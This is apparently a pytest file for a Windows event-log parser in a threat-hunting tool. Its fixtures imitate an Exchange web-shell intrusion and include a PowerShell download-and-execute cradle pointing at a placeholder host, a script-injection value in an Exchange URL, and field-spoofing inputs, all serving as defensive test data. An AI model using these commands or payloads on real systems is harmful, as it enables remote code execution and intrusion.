"""Fields parsed from the rendered Message of message-only event exports, and Sentinel rows."""

from __future__ import annotations

import hashlib
import io
import json
import time

from exhunt.sources.base import ArtifactInfo
from exhunt.sources.events import JsonLinesEventSource
from exhunt.sources.message_fields import MAX_MESSAGE_CHARS, fields_from_message, layout_for
from exhunt.sources.sentinel_events import normalise, xml_items

SECURITY = ("Security", "Microsoft-Windows-Security-Auditing")
SYSMON = ("Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon")

M4688 = (
    "A new process has been created.\n\nCreator Subject:\n\tSecurity ID:\t\tS-1-5-18\n\tAccount Name:\t\tEXCH01$\n"
    "\tAccount Domain:\t\tCORP\n\tLogon ID:\t\t0x3E7\n\nTarget Subject:\n\tSecurity ID:\t\tS-1-0-0\n"
    "\tAccount Name:\t\t-\n\tAccount Domain:\t\t-\n\tLogon ID:\t\t0x0\n\nProcess Information:\n"
    "\tNew Process ID:\t\t0x21d0\n\tNew Process Name:\tC:\\Windows\\System32\\cmd.exe\n"
    "\tToken Elevation Type:\tTokenElevationTypeDefault (1)\n\tMandatory Label:\t\tMandatory Label\\System Mandatory Level\n"
    "\tCreator Process ID:\t0x25b4\n\tCreator Process Name:\tC:\\Windows\\System32\\inetsrv\\w3wp.exe\n"
    "\tProcess Command Line:\tcmd /c whoami\n\nToken Elevation Type indicates the type of token that was assigned."
)
M4624_ONE_LINE = (
    "An account was successfully logged on. Subject: Security ID: S-1-5-18 Account Name: EXCH01$ Account Domain: CORP "
    "Logon ID: 0x3E7 Logon Information: Logon Type: 10 Restricted Admin Mode: No Virtual Account: No Elevated Token: "
    "Yes Impersonation Level: Impersonation New Logon: Security ID: S-1-5-21-1-2-3-500 Account Name: Administrator "
    "Account Domain: CORP Logon ID: 0x2153A91CB Linked Logon ID: 0x0 Network Account Name: - Network Account Domain: "
    "- Logon GUID: {00000000-0000-0000-0000-000000000000} Process Information: Process ID: 0x0 Process Name: - "
    "Network Information: Workstation Name: EXCH01 Source Network Address: 10.10.1.20 Source Port: 52113 Detailed "
    "Authentication Information: Logon Process: User32 Authentication Package: Negotiate Transited Services: - "
    "Package Name (NTLM only): - Key Length: 0 This event is generated when a logon session is created."
)


def parse(channel: str | None, provider: str | None, event_id: int, message: str) -> dict[str, str]:
    layout = layout_for(channel, provider, event_id)
    assert layout is not None
    return fields_from_message(layout, message)


def test_4688_sections_and_trailer():
    f = parse(*SECURITY, 4688, M4688)
    assert f["NewProcessName"] == "C:\\Windows\\System32\\cmd.exe"
    assert f["ParentProcessName"] == "C:\\Windows\\System32\\inetsrv\\w3wp.exe"
    assert f["CommandLine"] == "cmd /c whoami"  # the template's explanation is not part of it
    assert f["SubjectUserName"] == "EXCH01$" and f["TargetUserName"] == "-"
    assert f["_parsed_from"] == "Message"
    assert parse(*SECURITY, 4688, " ".join(M4688.split())) == f  # the same text joined into one line


def test_4624_labels_repeated_under_subject_and_new_logon():
    f = parse("Security", None, 4624, M4624_ONE_LINE)  # no provider: the channel decides
    assert (f["SubjectUserName"], f["TargetUserName"]) == ("EXCH01$", "Administrator")
    assert (f["SubjectUserSid"], f["TargetUserSid"]) == ("S-1-5-18", "S-1-5-21-1-2-3-500")
    assert (f["LogonType"], f["IpAddress"], f["IpPort"]) == ("10", "10.10.1.20", "52113")
    assert f["TargetOutboundUserName"] == "-" and f["KeyLength"] == "0"
    assert "_message_ambiguous" not in f


def test_4648_and_1102():
    m4648 = (
        "A logon was attempted using explicit credentials.\n\nSubject:\n\tSecurity ID:\t\tS-1-5-18\n"
        "\tAccount Name:\t\tEXCH01$\n\tAccount Domain:\t\tCORP\n\tLogon ID:\t\t0x3E7\n\tLogon GUID:\t\t{0}\n\n"
        "Account Whose Credentials Were Used:\n\tAccount Name:\t\tAdministrator\n\tAccount Domain:\t\tCORP\n"
        "\tLogon GUID:\t\t{0}\n\nTarget Server:\n\tTarget Server Name:\tDC01.corp.example\n"
        "\tAdditional Information:\tDC01.corp.example\n\nProcess Information:\n\tProcess ID:\t\t0x1f4\n"
        "\tProcess Name:\t\tC:\\Windows\\System32\\inetsrv\\w3wp.exe\n\nNetwork Information:\n"
        "\tNetwork Address:\t-\n\tPort:\t\t\t-\n\nThis event is generated when a process attempts to log on."
    )
    f = parse(*SECURITY, 4648, m4648)
    assert (f["SubjectUserName"], f["TargetUserName"]) == ("EXCH01$", "Administrator")
    assert f["TargetServerName"] == "DC01.corp.example" and f["ProcessName"].endswith("\\w3wp.exe")
    assert f["IpPort"] == "-"
    m1102 = "The audit log was cleared.\nSubject:\n\tSecurity ID:\tCORP\\admin\n\tAccount Name:\tadmin\n\tDomain Name:\tCORP\n\tLogon ID:\t0x5B3D1F2"
    f = parse("Security", "Microsoft-Windows-Eventlog", 1102, m1102)
    assert (f["SubjectUserName"], f["SubjectDomainName"], f["SubjectLogonId"]) == ("admin", "CORP", "0x5B3D1F2")


def test_powershell_4104_script_block_from_its_template():
    m = (
        "Creating Scriptblock text (1 of 1):\r\nIEX (New-Object Net.WebClient).DownloadString('http://x/a')\r\n"
        "ScriptBlock ID: imitated\r\n\r\nScriptBlock ID: 6a1c4e0b-1d2e-4f00-9a1b-1c2d3e4f5a6b\r\nPath: C:\\a.ps1"
    )
    f = parse("Microsoft-Windows-PowerShell/Operational", None, 4104, m)
    assert (
        f["ScriptBlockText"]
        == "IEX (New-Object Net.WebClient).DownloadString('http://x/a')\r\nScriptBlock ID: imitated"
    )
    assert (f["ScriptBlockId"], f["Path"], f["MessageTotal"]) == (
        "6a1c4e0b-1d2e-4f00-9a1b-1c2d3e4f5a6b",
        "C:\\a.ps1",
        "1",
    )
    layout = layout_for("Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell", 4104)
    assert layout is not None
    started = time.perf_counter()
    for hostile in [
        "Creating Scriptblock text (1 of 1):\n" + "\n" * 300_000,
        "Creating Scriptblock text (1 of 1):\n" + "\nScriptBlock ID: x\nPath: y\nz" * 20_000,
    ]:
        assert fields_from_message(layout, hostile) == {}
    assert time.perf_counter() - started < 3.0


def test_rendered_values_turn_back_into_raw_ids():
    m = "A directory service object was modified.\n\nOperation:\n\tType:\t\tValue Added\n\tCorrelation ID:\t{1}"
    assert parse(*SECURITY, 5136, m)["OperationType"] == "%%14674"


def test_sysmon_lines_joined_and_imitated():
    lines = [
        "Process Create:", "RuleName: -", "UtcTime: 2021-03-03 04:00:00.000", "ProcessId: 4120",
        "Image: C:\\Windows\\System32\\cmd.exe", "CommandLine: cmd /c echo x", "CurrentDirectory: c:\\windows\\system32\\inetsrv\\",
        "User: NT AUTHORITY\\SYSTEM", "ParentProcessId: 7344", "ParentImage: C:\\Windows\\System32\\inetsrv\\w3wp.exe",
        "ParentCommandLine: c:\\windows\\system32\\inetsrv\\w3wp.exe -ap \"MSExchangeOWAAppPool\"",
    ]  # fmt: skip
    f = parse(*SYSMON, 1, "\n".join(lines))
    assert f["ParentImage"].endswith("\\w3wp.exe") and f["CommandLine"] == "cmd /c echo x"
    assert f["ParentCommandLine"].endswith('"MSExchangeOWAAppPool"')
    assert parse(*SYSMON, 1, " ".join(lines)) == f
    # a command line that imitates a later field line does not replace the real field
    hostile = list(lines)
    hostile[5] = "CommandLine: cmd /c echo x\nParentImage: C:\\Windows\\explorer.exe"
    f = parse(*SYSMON, 1, "\n".join(hostile))
    assert f["ParentImage"] == "C:\\Windows\\System32\\inetsrv\\w3wp.exe"
    assert "explorer.exe" in f["CommandLine"] and f["_message_ambiguous"] == "ParentImage"
    f = parse(
        *SYSMON, 11, "File created:\nImage: C:\\w3wp.exe\nTargetFilename: C:\\inetpub\\wwwroot\\aspnet_client\\a b.aspx"
    )
    assert f["TargetFilename"] == "C:\\inetpub\\wwwroot\\aspnet_client\\a b.aspx"


def test_cmdlet_both_renderings_and_caller():
    dash = 'Cmdlet succeeded. Cmdlet Set-OabVirtualDirectory, parameters -Identity "EXCH01\\OAB (Default Web Site)" -ExternalUrl "http://f/<script>a</script>".'
    f = parse("MSExchange Management", "MSExchange CmdletLogs", 1, dash)
    assert f["param1"] == "Set-OabVirtualDirectory"
    assert f["param2"] == '-Identity "EXCH01\\OAB (Default Web Site)" -ExternalUrl "http://f/<script>a</script>"'
    brace = "Cmdlet suceeded. Cmdlet Set-OabVirtualDirectory, parameters {Identity=OAB (Default Web Site), ExternalUrl=http://f/<script>a</script>}.\r\nCaller: corp.example/Users/Administrator"
    f = parse("MSExchange Management", None, 1, brace)
    assert f["param2"] == "{Identity=OAB (Default Web Site), ExternalUrl=http://f/<script>a</script>}"
    assert f["param3"] == "corp.example/Users/Administrator"
    assert parse("MSExchange Management", None, 6, "Cmdlet failed. Cmdlet Get-Mailbox, parameters .")["param2"] == ""
    assert layout_for("MSExchange Management", None, 2) is None


def test_hostile_and_huge_messages_cost_bounded_time_and_never_raise():
    layout = layout_for(*SYSMON, 1)
    assert layout is not None
    huge = "Process Create:\nImage: C:\\a.exe\nCommandLine: " + "ParentImage: x " * 400_000
    started = time.perf_counter()
    f = fields_from_message(layout, huge)
    assert time.perf_counter() - started < 2.0
    assert f["Image"] == "C:\\a.exe" and "_message_truncated" in f
    labels = layout_for(*SECURITY, 4624)
    assert labels is not None
    for text in ["", ":", "\x00" * 1000, "Account Name:" * 50_000, "Subject:\n" * 10_000, "\ud800 Logon Type: 3"]:
        fields_from_message(labels, text)
    assert len(huge) > MAX_MESSAGE_CHARS


def read_jsonl(lines: list[dict]) -> tuple[list[dict], ArtifactInfo]:
    info = ArtifactInfo("x.jsonl")
    blob = "\n".join(json.dumps(x) for x in lines).encode() + b"\n"
    rows = []
    for _, table in JsonLinesEventSource().read(io.BytesIO(blob), info, None):
        rows.extend(table.to_pylist())
    return rows, info


def test_reader_fills_message_only_events_and_says_so():
    common = {
        "Computer": "EXCH01",
        "Channel": "Security",
        "EventID": 4688,
        "ProviderName": "Microsoft-Windows-Security-Auditing",
    }
    rows, info = read_jsonl(
        [
            {"TimeCreated": "2021-03-03T04:00:00Z", **common, "Message": M4688},
            {"TimeCreated": "2021-03-03T04:00:01Z", **common, "NewProcessName": "C:\\structured.exe", "Message": M4688},
            {"TimeCreated": "2021-03-03T04:00:02Z", **common, "NewProcessName": "C:\\structured.exe",
             "CommandLine": "structured", "Message": M4688},
        ]
    )  # fmt: skip
    first, second, third = (json.loads(r["data"]) for r in rows)
    assert first["CommandLine"] == "cmd /c whoami" and first["_parsed_from"] == "Message"
    # one field of the event's own is kept over the message; the rest comes from the message
    assert second["NewProcessName"] == "C:\\structured.exe" and second["CommandLine"] == "cmd /c whoami"
    assert third == {"NewProcessName": "C:\\structured.exe", "CommandLine": "structured"}  # structured: not parsed
    assert info.log_type == "JSON lines (message-only)"
    assert any("2 of 3 event(s)" in n and "parsed from the rendered Message" in n for n in info.notes)


def test_nxlog_message_only_record_with_the_agents_own_keys():
    message = (
        "A service was installed in the system.\r\n\r\nService Name:  PSEXESVC\r\nService File Name:  "
        "%SystemRoot%\\PSEXESVC.exe\r\nService Type:  user mode service\r\nService Start Type:  demand start\r\n"
        "Service Account:  LocalSystem"
    )
    nxlog = {
        "EventTime": "2021-03-03 04:00:00", "Hostname": "EXCH01.corp.example", "EventID": 7045,
        "SourceName": "Service Control Manager", "Channel": "System", "AccountName": "SYSTEM", "Domain": "NT AUTHORITY",
        "UserID": "S-1-5-18", "AccountType": "User", "Message": message,
    }  # fmt: skip
    rows, _ = read_jsonl([nxlog])
    data = json.loads(rows[0]["data"])
    assert (data["ServiceName"], data["ImagePath"]) == ("PSEXESVC", "%SystemRoot%\\PSEXESVC.exe")
    assert data["StartType"] == "demand start" and data["AccountName"] == "SYSTEM"  # the agent's key stays
    assert rows[0]["provider"] == "Service Control Manager" and rows[0]["channel"] == "System"


def test_sentinel_security_event_and_event_rows():
    security_event = {
        "TenantId": "t", "TimeGenerated": "2021-03-03T04:00:00.123Z", "Computer": "EXCH01.corp.example",
        "EventSourceName": "Microsoft-Windows-Security-Auditing", "Channel": "Security", "EventID": 4688,
        "Activity": "4688 - A new process has been created.", "Account": "CORP\\EXCH01$",
        "NewProcessName": "C:\\Windows\\System32\\cmd.exe", "ParentProcessName": "C:\\Windows\\System32\\inetsrv\\w3wp.exe",
        "CommandLine": "cmd /c whoami", "LogonType": "", "TargetUserName": None,
    }  # fmt: skip
    event = {
        "TimeGenerated": "2021-03-03T05:00:00Z", "Computer": "EXCH01.corp.example", "EventLog": "MSExchange Management",
        "Source": "MSExchange CmdletLogs", "EventID": 1, "EventLevelName": "Information",
        "ParameterXml": "<Param>Set-OabVirtualDirectory</Param><Param>-ExternalUrl &quot;http://f/&lt;script&gt;&quot;</Param><Param>CORP\\admin</Param>",
        "RenderedDescription": "Cmdlet succeeded. Cmdlet Set-OabVirtualDirectory, parameters -ExternalUrl \"http://f/<script>\".",
    }  # fmt: skip
    n = normalise(security_event)
    assert (n["event_id"], n["channel"], n["provider"]) == (4688, "Security", "Microsoft-Windows-Security-Auditing")
    assert n["data"] == {
        "NewProcessName": "C:\\Windows\\System32\\cmd.exe",
        "ParentProcessName": "C:\\Windows\\System32\\inetsrv\\w3wp.exe",
        "CommandLine": "cmd /c whoami",
    }
    rows, _ = read_jsonl([security_event, event])
    assert rows[0]["ts"].isoformat() == "2021-03-03T04:00:00.123000" and rows[0]["computer"] == "EXCH01.corp.example"
    cmdlet = json.loads(rows[1]["data"])
    assert cmdlet == {
        "param1": "Set-OabVirtualDirectory",
        "param2": '-ExternalUrl "http://f/<script>"',
        "param3": "CORP\\admin",
    }
    assert rows[1]["channel"] == "MSExchange Management" and rows[1]["level"] == 4
    assert xml_items('<EventData><Data Name="TargetUserName">a&amp;b</Data><Data Name="X"/></EventData>') == {
        "TargetUserName": "a&b",
        "X": "",
    }
    cleared = (
        '<DataItem type="System.XmlData"><UserData><LogFileCleared xmlns="http://manifests.microsoft.com/win/2004/08/'
        'windows/eventlog"><SubjectUserSid>S-1-5-21-1-500</SubjectUserSid><SubjectUserName>admin</SubjectUserName>'
        "<SubjectDomainName>CORP</SubjectDomainName></LogFileCleared></UserData></DataItem>"
    )
    assert xml_items(cleared) == {
        "SubjectUserSid": "S-1-5-21-1-500",
        "SubjectUserName": "admin",
        "SubjectDomainName": "CORP",
    }


def test_real_evtx_fields_survive_a_round_trip_through_their_rendered_text():
    """Real EVTX events (Sysmon 1/10, Security 4624/4648/1102) rendered in their Windows layout and
    parsed back give the EVTX reader's fields."""
    from exhunt.sources.events import EvtxSource
    from exhunt.synth.shape_message_only import _layouts, render
    from tests.conftest import shared_path

    layouts = _layouts()
    checked = 0
    for path in sorted(shared_path("data", "evtx").glob("*.evtx")):
        info = ArtifactInfo(path.name)
        with path.open("rb") as stream:
            rows = [r for _, t in EvtxSource().read(stream, info, hashlib.sha256()) for r in t.to_pylist()]
        for row in rows:
            layout = layout_for(row["channel"], row["provider"], row["event_id"])
            if layout is None:
                continue
            data = json.loads(row["data"])
            event = {"winlog": {"provider_name": row["provider"], "event_id": row["event_id"], "event_data": data}}
            parsed = fields_from_message(layout, render({**event, "message": "Event:"}, layouts))
            expected = {k: v.strip() for k, v in data.items() if k in layout.names}
            assert {k: parsed.get(k) for k in expected} == expected, (path.name, row["event_id"])
            checked += 1
    assert checked > 10


def test_a_learnt_message_shape_reads_as_line_by_line():
    """After a shape is met twice, messages of it are read by one match; whatever their values hold
    they give the line-by-line result, and a value that changes the shape falls back to it."""
    from dataclasses import replace

    from exhunt.sources.message_fields import Shapes

    warm = replace(layout_for(*SECURITY, 4688), shapes=Shapes())
    fields_from_message(warm, M4688)
    assert not warm.shapes.known  # met once: not learnt
    fields_from_message(warm, M4688)
    assert len(warm.shapes.known) == 1
    variants = [
        M4688.replace("cmd /c whoami", "powershell -enc AAAA"),
        M4688.replace("Creator Subject:\n", "Creator Subject: not a heading now\n"),  # same lines, heading filled
        M4688.replace("\t\tEXCH01$\n", "\t\t \n"),  # a field left blank
        M4688.replace("cmd /c whoami", "cmd /c x\tAccount Name:\tevil"),  # a label inside a value
        M4688.replace("cmd /c whoami", "cmd /c x\nCreator Process Name:\tC:\\evil.exe"),  # a new line
        M4688.replace("cmd /c whoami", "x Token Elevation Type indicates"),  # the trailer inside the value
        M4688.replace("\n", "\r\n"),
    ]
    for text in variants:
        assert fields_from_message(warm, text) == fields_from_message(replace(warm, shapes=Shapes()), text), text
    hits = [fields_from_message(warm, variants[0]), warm.shapes.known[0][0].fullmatch(variants[0])]
    assert hits[0]["CommandLine"] == "powershell -enc AAAA" and hits[1] is not None
    assert warm.shapes.known[0][0].fullmatch(variants[1]) is None  # a filled heading is another shape
